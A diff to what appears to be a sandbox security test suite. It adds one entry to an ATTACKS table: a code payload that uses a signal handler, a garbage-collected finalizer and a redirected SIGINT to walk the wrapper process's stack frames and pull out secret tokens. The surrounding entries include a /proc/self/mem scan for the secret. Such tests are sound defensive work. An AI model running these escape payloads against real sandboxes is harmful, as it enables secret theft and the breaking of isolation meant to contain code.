@@ -132,6 +132,27 @@ ATTACKS: dict[str, str] = {
         "    signal.signal(signal.SIGALRM, _h); signal.setitimer(signal.ITIMER_REAL, 0.01); time.sleep(0.2)\n"
         "except BaseException: pass\n"
         "_claim(found)\n" + ESCAPE),
+    "a finalizer run in the wrapper's main thread, then a signal-handler frame": _FIND_TOKENS + (
+        "import _thread, gc, os, signal, sys, time\nfound = []\n"
+        "def _h(sig, f):\n"
+        "    while f is not None:\n"
+        "        found.extend(_tokens(list(f.f_locals.values()))); f = f.f_back\n"
+        "    if found:\n"
+        "        _claim(found); os._exit(0)\n"
+        "class _D:\n"
+        "    def __del__(self):\n"
+        "        try:\n"
+        "            signal.signal(signal.SIGALRM, _h); signal.setitimer(signal.ITIMER_REAL, 0.001)\n"
+        "            t = time.monotonic()\n"
+        "            while time.monotonic() - t < 0.3: pass\n"
+        "        except BaseException: pass\n"
+        "def _cycle():\n"
+        "    d = _D(); d.me = d\n"
+        "for _ in range(50): _cycle()\n"
+        "gc.set_threshold(1)\n"
+        "signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})  # so that SIGINT goes to the main thread\n"
+        "os.kill(os.getpid(), signal.SIGINT)  # it wakes, raises, allocates, collects: the finalizers run there\n"
+        "time.sleep(1)\n" + ESCAPE),
     "read /proc/self/mem (direct and by dir_fd) for the secret": _FIND_TOKENS + (
         "import os, re\nfound = []\n"
         "def _scan(open_rel):\n"
